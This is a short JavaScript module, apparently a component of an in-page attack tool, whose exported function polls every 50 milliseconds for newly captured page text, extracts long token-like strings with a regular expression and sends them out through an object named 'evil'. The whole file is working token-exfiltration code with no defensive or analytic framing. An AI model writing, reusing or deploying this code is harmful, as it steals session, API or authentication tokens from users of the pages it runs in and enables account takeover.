/** Runs in the page, with hooks set: sends whatever is new and looks like a token, again and again. */
export function poll(evil) {
  evil.rounds = 0;
  setInterval(() => {
    const found = evil.news().flatMap((text) => text.match(/[\w.~-]{40,4000}/g) ?? []);
    if (found.length) evil.post(found.join("\n"));
    evil.rounds += 1;
  }, 50);
}
